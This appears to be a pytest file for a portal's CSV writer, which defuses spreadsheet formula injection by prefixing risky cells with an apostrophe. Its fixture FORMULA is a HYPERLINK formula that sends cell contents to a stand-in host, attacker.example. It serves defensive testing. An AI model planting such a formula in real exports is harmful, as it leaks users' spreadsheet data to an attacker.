"""Every CSV the portal writes for download goes through one writer that defuses spreadsheet
formulas (OWASP "CSV injection"): a text cell starting with = + - @, a tab or a carriage
return gets a leading apostrophe, so a spreadsheet shows it instead of running it."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.test import Client

from portal import csv as portal_csv
from referrals.models import Queue

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open the report")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_a_formula_gets_a_leading_apostrophe(start):
    assert portal_csv.cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("plain text", "plain text"),
        ("a = b", "a = b"),
        ("", ""),
        (None, ""),
        (12, "12"),
        (-3, "-3"),  # a number is never a formula
        (0.8571, "0.8571"),
        (Decimal("-1.5"), "-1.5"),
        (date(2026, 3, 10), "2026-03-10"),
        (datetime(2026, 3, 10, 12, 0, tzinfo=UTC), "2026-03-10T12:00:00+00:00"),
    ],
)
def test_other_cells_are_written_as_they_are(value, text):
    assert portal_csv.cell(value) == text


def test_the_writer_defuses_every_cell_of_a_row():
    buffer = io.StringIO()
    portal_csv.writer(buffer).writerow(["ok", "@SUM(A1:A2)", None, 5])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["ok", "'@SUM(A1:A2)", "", "5"]]


def test_without_a_file_the_writer_returns_each_line_for_streaming():
    writer = portal_csv.writer()
    assert writer.writerow(["a", "=1"]) == "a,'=1\r\n"


@pytest.mark.django_db
def test_a_queue_name_starting_a_formula_is_defused_in_the_transparency_csv():
    Queue.objects.filter(slug="general").update(name=FORMULA)

    response = Client().get("/transparency/report.csv?period=2026-Q1")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    labels = {r[2] for r in rows if r[0] == "sla_by_queue" and r[1] == "general"}
    assert labels == {"'" + FORMULA}
    assert not any(cell.startswith("=") for row in rows for cell in row)


@pytest.mark.django_db
def test_the_bulk_template_is_written_by_the_same_writer(client_for, ngo_member):
    response = client_for(ngo_member).get("/referrals/bulk/template.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][0] == "kind"
    assert not any(cell.startswith(portal_csv.FORMULA_START) for row in rows for cell in row)
